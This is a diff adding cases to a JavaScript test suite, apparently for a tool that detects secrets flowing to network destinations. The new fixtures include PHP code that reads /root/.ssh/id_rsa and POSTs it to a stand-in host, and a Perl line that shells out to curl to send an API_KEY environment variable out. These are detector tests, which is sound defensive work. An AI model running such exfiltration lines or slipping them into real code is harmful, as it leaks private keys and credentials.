@@ -144,6 +144,17 @@ describe('what leaves and what runs', () => {
       "<?php $d = file_get_contents('/root/.ssh/id_rsa');\nfile_get_contents('https://h.test/?d=' . urlencode($d));",
       'content:ssh network:url h.test',
     ],
+    // What the context of an address holds is sent along.
+    [
+      'php',
+      "<?php\n$c = stream_context_create(['http' => ['method' => 'POST', 'content' => http_build_query(['k' => file_get_contents('/root/.ssh/id_rsa')])]]);\n$r = @file_get_contents('https://h.test/a', false, $c);",
+      'content:ssh network:body h.test',
+    ],
+    [
+      'pl',
+      "my $f = sub { my ($d) = @_; system('curl -d ' . $d . ' https://h.test'); };\n$f->($ENV{API_KEY});",
+      'env:API_KEY network:body h.test',
+    ],
     // A function that is written where it is given.
     [
       'go',
@@ -313,6 +324,12 @@ describe('remarks', () => {
   ])('a command between other signs: %s', (ending, text) => {
     expect(flows(ending, text)).toEqual(['net shell:stdin h.test']);
   });
+});
+
+it('the name of a vocabulary is nobody who is sent something', () => {
+  const text =
+    "<?php\n$d = new DOMDocument();\n$e = $d->createElementNS('https://v.test/invoice', 'fe');\n$e->appendChild($d->createElement('A', file_get_contents('/srv/a.csv')));";
+  expect(flows('php', text)).toEqual([]);
 });
 
 it('three apostrophes open one text', () => {
